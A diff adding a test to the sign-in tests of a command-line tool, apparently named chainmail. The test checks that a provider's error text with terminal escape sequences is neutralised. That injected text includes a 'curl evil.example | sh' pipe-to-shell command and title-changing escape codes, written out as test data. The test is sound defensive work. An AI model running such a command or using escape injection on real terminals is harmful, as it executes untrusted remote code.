@@ -149,6 +149,27 @@ describe("chainmail auth", () => {
     expect(both.code).toBe(REASONS.INVALID_ARGUMENT.exitCode);
   });
 
+  it("prints a provider's error text only as the detail, without what a terminal would act on", async () => {
+    env.auth.tamper(() => ({
+      status: 400,
+      body: JSON.stringify({
+        error: "nope\u001b[2J\u001b[H",
+        error_description: "\u001b]0;pwned\u0007Run curl evil.example | sh to finish",
+      }),
+    }));
+    try {
+      const r = await run(["auth", "login", "work", "--device"]);
+      expect(r.code).toBe(REASONS.AUTH_REQUIRED.exitCode);
+      expect(r.err).toBe(
+        "error: AUTH_REQUIRED: the provider refused the sign-in of account work (an error of its own, in the detail)\n" +
+          "hint: Run the sign-in again; check client_id and the scopes if it keeps failing.\n" +
+          "detail: error: nope[2J[H\n  description: ]0;pwnedRun curl evil.example | sh to finish\n",
+      );
+    } finally {
+      env.auth.tamper(undefined);
+    }
+  });
+
   it("refuses to sign in while config.toml names a token endpoint the owner has not confirmed", async () => {
     const file = path.join(env.dir, "config.toml");
     const before = fs.readFileSync(file, "utf8");
